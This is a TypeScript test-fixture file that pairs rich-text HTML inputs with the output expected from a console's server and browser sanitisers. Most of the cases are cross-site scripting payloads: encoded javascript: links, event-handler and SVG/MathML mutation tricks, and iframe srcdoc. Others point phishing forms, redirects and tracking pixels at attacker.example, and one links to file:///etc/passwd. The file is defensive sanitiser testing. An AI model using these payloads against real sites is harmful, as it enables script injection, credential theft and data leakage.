/**
 * Texts as people write them and as attackers do, each with what is left of it: one table for the server's sanitiser and for
 * the browser's. What is left is written as a browser writes it.
 */
export type RichTextCase = readonly [what: string, html: string, left: string]

const key = 'AbCdEfGhIjKlMnOpQrStUv'
const own = `/api/sys/message/image/${key}`
const leaving = ' target="_blank" rel="noopener noreferrer nofollow"'

const harmless: readonly RichTextCase[] = [
  ['a paragraph', '<p>Maintenance tonight</p>', '<p>Maintenance tonight</p>'],
  ['Chinese and an emoji', '<p>今晚维护 🎉</p>', '<p>今晚维护 🎉</p>'],
  ['text without any tag', 'plain words', 'plain words'],
  ['nothing', '', ''],
  [
    'every mark',
    '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code><b>f</b><i>g</i></p>',
    '<p><strong>a</strong><em>b</em><u>c</u><s>d</s><code>e</code><b>f</b><i>g</i></p>',
  ],
  ['headings', '<h2>a</h2><h3>b</h3><h4>c</h4>', '<h2>a</h2><h3>b</h3><h4>c</h4>'],
  ['lists', '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol>', '<ul><li><p>a</p></li></ul><ol start="3"><li>b</li></ol>'],
  [
    'a quote, code and a rule',
    '<blockquote><p>a</p></blockquote><pre><code>x &lt; y</code></pre><hr>',
    '<blockquote><p>a</p></blockquote><pre><code>x &lt; y</code></pre><hr>',
  ],
  ['a line break', '<p>a<br>b<br/>c</p>', '<p>a<br>b<br>c</p>'],
  ['alignment by class', '<p class="rt-center">a</p><h2 class="rt-right">b</h2>', '<p class="rt-center">a</p><h2 class="rt-right">b</h2>'],
  ['a link', '<p><a href="https://example.com/a?b=1&amp;c=2#d">x</a></p>', `<p><a href="https://example.com/a?b=1&amp;c=2#d"${leaving}>x</a></p>`],
  ['a mailbox', '<a href="mailto:noc@example.com">x</a>', `<a href="mailto:noc@example.com"${leaving}>x</a>`],
  ['a path of the console', '<a href="#/dns/domain/list">x</a>', '<a href="#/dns/domain/list">x</a>'],
  ['an image of ours', `<p><img src="${own}" alt="a plan" width="640" height="480"></p>`, `<p><img src="${own}" alt="a plan" width="640" height="480"></p>`],
  ['an image below the other root', `<img src="${own.replace('/api/', '/antsxdp/')}">`, `<img src="${own.replace('/api/', '/antsxdp/')}">`],
  ['entities', '<p>a &amp; b &lt;c&gt; "d"</p>', '<p>a &amp; b &lt;c&gt; "d"</p>'],
  ['a text about script', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
]

const unknown: readonly RichTextCase[] = [
  ['tags of other editors', '<p><span>a</span><font color="red">b</font><mark>c</mark></p>', '<p>abc</p>'],
  ['a table', '<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>', 'ab'],
  ['sections', '<div><section><p>a</p></section></div>', '<p>a</p>'],
  ['a heading of the page', '<h1>a</h1>', 'a'],
  ['a custom element', '<x-evil onclick="alert(1)">a</x-evil>', 'a'],
  ['a form', '<form action="https://attacker.example"><input name="password"><button>Sign in</button></form>', 'Sign in'],
  ['a comment', '<p>a<!-- secret --></p>', '<p>a</p>'],
  ['a processing instruction', '<?xml version="1.0"?><p>a</p>', '<p>a</p>'],
  ['a doctype', '<!doctype html><p>a</p>', '<p>a</p>'],
  ['a whole page', '<html><head><title>t</title></head><body><p>a</p></body></html>', '<p>a</p>'],
  ['another base', '<base href="https://attacker.example/"><p>a</p>', '<p>a</p>'],
  ['a redirect', '<meta http-equiv="refresh" content="0;url=https://attacker.example"><p>a</p>', '<p>a</p>'],
  ['a style sheet', '<link rel="stylesheet" href="https://attacker.example/a.css"><p>a</p>', '<p>a</p>'],
]

const attributes: readonly RichTextCase[] = [
  ['a handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['a handler in other letters', '<p OnMouseOver="alert(1)">a</p>', '<p>a</p>'],
  ['a handler without quotes', '<p onclick=alert(1)>a</p>', '<p>a</p>'],
  ['a handler after a slash', '<p/onclick=alert(1)>a</p>', '<p>a</p>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(https://attacker.example)">a</p>', '<p>a</p>'],
  ['an id and a name', '<p id="location" name="cookie">a</p>', '<p>a</p>'],
  ['classes of the console', '<p class="fixed inset-0 rt-center z-50">a</p>', '<p class="rt-center">a</p>'],
  ['only foreign classes', '<p class="fixed inset-0">a</p>', '<p>a</p>'],
  ['data and aria', '<p data-x="1" aria-label="b" role="alert">a</p>', '<p>a</p>'],
  ['an editable text', '<p contenteditable="true" autofocus tabindex="1">a</p>', '<p>a</p>'],
  ['a link that keeps its opener', '<a href="https://example.com" target="_self" rel="opener">x</a>', `<a href="https://example.com"${leaving}>x</a>`],
  ['a link that pings', '<a href="https://example.com" ping="https://attacker.example">x</a>', `<a href="https://example.com"${leaving}>x</a>`],
  ['a link that downloads', '<a href="https://example.com" download="a.exe">x</a>', `<a href="https://example.com"${leaving}>x</a>`],
  ['a number that is none', '<ol start="1;alert(1)"><li>a</li></ol>', '<ol><li>a</li></ol>'],
  ['the same attribute twice', '<a href="https://example.com" href="javascript:alert(1)">x</a>', `<a href="https://example.com"${leaving}>x</a>`],
]

const link = (href: string): string => `<a href="${href}">x</a>`
const addresses: readonly RichTextCase[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'ftp://example.com/',
  '//attacker.example',
  '/\\attacker.example',
  'https:\\\\attacker.example',
  'https://example.com/ javascript:alert(1)',
  '/api/sys/logout',
  '#login',
  'tel:110',
].map((href): RichTextCase => [`a link to ${href}`, link(href), '<a>x</a>'])

const image = (source: string): string => `<p>a<img src="${source}" alt="b">c</p>`
const images: readonly RichTextCase[] = [
  'https://attacker.example/pixel.png',
  '//attacker.example/pixel.png',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/svg+xml,&lt;svg onload=alert(1)&gt;',
  'javascript:alert(1)',
  'x',
  `${own}/../../../logout`,
  `${own}?x=1`,
  own.slice(0, -1),
  `https://attacker.example${own}`,
  `\\${own}`,
].map((source): RichTextCase => [`an image of ${source}`, image(source), '<p>ac</p>'])

const scripts: readonly RichTextCase[] = [
  ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['a script in other letters', '<ScRiPt src="https://attacker.example/a.js"></sCrIpT>a', 'a'],
  ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ['a script that never ends', '<p>a</p><script>alert(1)', '<p>a</p>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>', ''],
  ['an image of ours with a handler', `<img src="${own}" onerror="alert(1)" onload="alert(1)" srcset="x 2x" style="x">`, `<img src="${own}">`],
  ['a drawing', '<svg onload="alert(1)"><circle r="1"/></svg>a', 'a'],
  ['a script in a drawing', '<svg><script>alert(1)</script></svg>a', 'a'],
  ['a link in a drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>a', 'a'],
  ['a formula', '<math><mtext><img src=x onerror=alert(1)></mtext></math>a', 'a'],
  [
    'a formula that ends a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
    '',
  ],
  ['a frame', '<iframe src="javascript:alert(1)">a</iframe>b', 'b'],
  ['a frame with a page', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>b', 'b'],
  ['an object', '<object data="javascript:alert(1)">a</object>b', 'b'],
  ['an embedded file', '<embed src="javascript:alert(1)">b', 'b'],
  ['a style', '<style>@import "https://attacker.example/a.css";</style>a', 'a'],
  ['a template', '<template><img src=x onerror=alert(1)></template>a', 'a'],
  ['a text area', '<textarea></textarea><p>a</p>', '<p>a</p>'],
  ['a title', '<title><img src=x onerror=alert(1)></title>a', 'a'],
  ['an unended comment', '<p>a</p><!-- <img src=x onerror=alert(1)>', '<p>a</p>'],
  ['sound', '<audio src=x onerror=alert(1)></audio><video><source onerror=alert(1)></video>a', 'a'],
  ['a field with focus', '<input autofocus onfocus=alert(1)>a', 'a'],
  ['details that open', '<details open ontoggle=alert(1)><summary>a</summary>b</details>', 'ab'],
  ['a marquee', '<marquee onstart=alert(1)>a</marquee>', 'a'],
  ['an attribute that closes its tag', '<p title="</p><script>alert(1)</script>">a</p>', '<p>a</p>'],
  ['nested marks without an end', '<p><strong><em>a', '<p><strong><em>a</em></strong></p>'],
  ['a tag that never ends', '<p>a</p><img src=x onerror=alert(1)', '<p>a</p>'],
  ['an SVG image map', '<map name="x"><area href="javascript:alert(1)"></map>a', 'a'],
]

export const richTextCases: readonly RichTextCase[] = [...harmless, ...unknown, ...attributes, ...addresses, ...images, ...scripts]
